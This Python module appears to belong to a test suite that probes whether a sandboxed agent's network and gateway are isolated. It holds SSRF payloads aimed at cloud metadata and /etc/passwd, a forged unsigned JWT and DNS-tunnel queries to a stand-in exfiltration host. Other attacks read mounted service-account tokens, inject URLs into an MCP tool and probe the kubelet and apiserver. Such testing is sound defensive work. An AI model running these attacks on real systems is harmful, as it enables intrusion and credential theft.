"""Attacks over the network, and on the gateway itself: each returns what it got hold of, or raises OSError."""

from __future__ import annotations

import base64
import errno
import http.client
import json
import os
import re
import socket
from collections.abc import Callable, Mapping
from pathlib import Path

from hostile.attacks import connect, read_apiserver, resolve

TIMEOUT_SECONDS = 2.0
METADATA = "169.254.169.254"
DOOR = ("127.0.0.1", 8765)
GATEWAY = ("gateway.remit.dev", 8080)
TARGETS = {
    "absolute-target": f"http://{METADATA}/latest/meta-data/",
    "absolute-target-decimal": "http://2852039166/latest/meta-data/",
    "absolute-target-ipv6": "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "absolute-target-user": f"http://gateway.remit.dev@{METADATA}/",
    "double-slash-target": f"//{METADATA}/latest/meta-data/",
    "file-target": "file:///etc/passwd",
    "traversal-target": "/run/v1/../../metrics",
    "metrics-of-gateway": "/metrics",
    "evidence-of-others": "/evidence/v1/export",
}
"""Request targets by which a careless proxy would fetch something else."""


def answer(door: tuple[str, int], request: str, headers: Mapping[str, str], body: bytes = b"") -> str:
    """Send a request just as it is; returns what a success brought, raises PermissionError for a refusal."""
    lines = [f"{request} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
    raw = ("\r\n".join([*lines, f"Content-Length: {len(body)}", "Connection: close", "", ""])).encode() + body
    with socket.create_connection(door, TIMEOUT_SECONDS) as link:
        link.settimeout(10)
        link.sendall(raw)
        response = http.client.HTTPResponse(link)
        try:
            response.begin()
            content = response.read(4096)
        except http.client.HTTPException as error:
            raise PermissionError(errno.EPERM, f"no answer: {type(error).__name__}") from error
    if response.status >= 300:  # noqa: PLR2004 (not a success)
        raise PermissionError(errno.EPERM, f"HTTP {response.status}: {content[:80]!r}")
    return f"HTTP {response.status}: {content[:80]!r}"


def through_sidecar(target: str) -> Callable[[], str]:
    """Have the sidecar, and behind it the gateway, fetch something."""
    return lambda: answer(DOOR, f"GET {target}", {"Host": METADATA})


def as_somebody(token: str) -> str:
    """Speak to the gateway without the sidecar, with this token."""
    headers = {"Host": GATEWAY[0], **({"Authorization": f"Bearer {token}"} if token else {})}
    return answer(GATEWAY, "GET /run/v1/input", headers)


def forged() -> str:
    """Make a token that says what is wanted, and is signed by nobody."""
    parts = (
        {"alg": "none", "typ": "JWT"},
        {"aud": ["remit-gateway"], "sub": "system:serviceaccount:bank:remit-agent-x"},
    )
    words = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in parts]
    return as_somebody(".".join([*words, ""]))


def ask_tool_for(url: str) -> str:
    """Give a tool an address in place of an account: whoever follows it would fetch it."""
    parameters = {"name": "get_account", "arguments": {"account": url}, "_meta": META}
    body = {"jsonrpc": "2.0", "id": "1", "method": "tools/call", "params": parameters}
    headers = {
        "Host": "gateway",
        "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream",
        "MCP-Protocol-Version": "2026-07-28",
        "Mcp-Method": "tools/call",
        "Mcp-Name": "get_account",
    }
    said = answer(DOOR, "POST /mcp", headers, json.dumps(body).encode())
    if "error" in said.lower():
        raise PermissionError(errno.EPERM, said[:120])
    return said


META = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientCapabilities": {},
    "io.modelcontextprotocol/clientInfo": {"name": "hostile", "version": "1"},
}


def look_up(name: str) -> str:
    """Ask the C library for a name."""
    found = socket.getaddrinfo(name, 443)
    return f"{name} is {found[0][4]}"


def ask_over_tcp(server: str) -> str:
    """Ask a DNS server over TCP."""
    return connect(f"[{server}]:53" if ":" in server else f"{server}:53")


def ping(host: str) -> str:
    """Send an ICMP echo by the one kind of socket that asks for no privilege."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as link:
        link.settimeout(TIMEOUT_SECONDS)
        link.sendto(b"\x08\x00\xf7\xfd\x00\x01\x00\x01", (host, 0))
        return f"{len(link.recv(512))} bytes of echo from {host}"


def connect6(host: str, port: int) -> str:
    """Open a connection by IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as link:
        link.settimeout(TIMEOUT_SECONDS)
        link.connect((host, port))
        return f"connected to {host}"


def find_services() -> str:
    """Look in the environment for where other services are."""
    found = [
        name for name in os.environ if re.fullmatch(r".*_SERVICE_HOST", name) and not name.startswith("KUBERNETES_")
    ]
    if not found:
        raise FileNotFoundError(errno.ENOENT, "the environment names no service")
    return ", ".join(found)


def find_token(folder: str) -> Callable[[], str]:
    """Look for a token where one would be mounted."""
    return lambda: f"{len(Path(folder, 'token').read_text())} characters of a token"


def attacks(order: Mapping[str, str]) -> dict[str, Callable[[], str]]:
    """Return the attacks by name; the run's input says where things are."""
    node = order["node"]
    return {
        "dns-by-udp": lambda: resolve("exfiltrate.example.com", order["dns"]),
        "dns-by-tcp": lambda: ask_over_tcp(order["dns"]),
        "dns-of-the-internet": lambda: resolve("exfiltrate.example.com", "1.1.1.1"),
        "dns-tunnel": lambda: resolve(f"{'a' * 60}.{'b' * 60}.exfiltrate.example.com", order["dns"]),
        "dns-by-the-library": lambda: look_up("kubernetes.default.svc"),
        "internet": lambda: connect(order["internet"]),
        "ping": lambda: ping(order["dns"]),
        "ping-of-the-node": lambda: ping(node),
        "ipv6-internet": lambda: connect6("2606:4700:4700::1111", 443),
        "ipv6-metadata": lambda: connect6("fd00:ec2::254", 80),
        "ipv6-loopback-of-ipv4": lambda: connect6(f"::ffff:{order['apiserver'].partition(':')[0]}", 443),
        "metadata": lambda: connect(f"{METADATA}:80"),
        "metadata-of-others": lambda: connect("100.100.100.200:80"),
        "apiserver": lambda: read_apiserver(order["apiserver"]),
        "apiserver-on-the-node": lambda: read_apiserver(f"{node}:6443"),
        "kubelet": lambda: connect(f"{node}:10250"),
        "bank": lambda: connect(order["bank"]),
        "other-pod": lambda: connect(order["otherPod"]),
        "control-port": lambda: connect(order["controlPort"]),
        "control-port-of-the-gateways-pod": lambda: connect(f"{order['gatewayPod']}:8081"),
        "words-of-services": find_services,
        "token-for-the-apiserver": find_token("/var/run/secrets/kubernetes.io/serviceaccount"),
        "token-for-the-gateway": find_token("/var/run/secrets/remit.dev"),
        "no-token": lambda: as_somebody(""),
        "forged-token": forged,
        "token-of-another-audience": lambda: as_somebody(order["foreignToken"]),
        "token-of-another-account": lambda: as_somebody(order["stolenToken"]),
        "connect-method": lambda: answer(DOOR, f"CONNECT {METADATA}:80", {"Host": METADATA}),
        "url-for-a-tool": lambda: ask_tool_for(f"http://{METADATA}/"),
        "file-for-a-tool": lambda: ask_tool_for("file:///etc/passwd"),
        **{name: through_sidecar(target) for name, target in TARGETS.items()},
    }
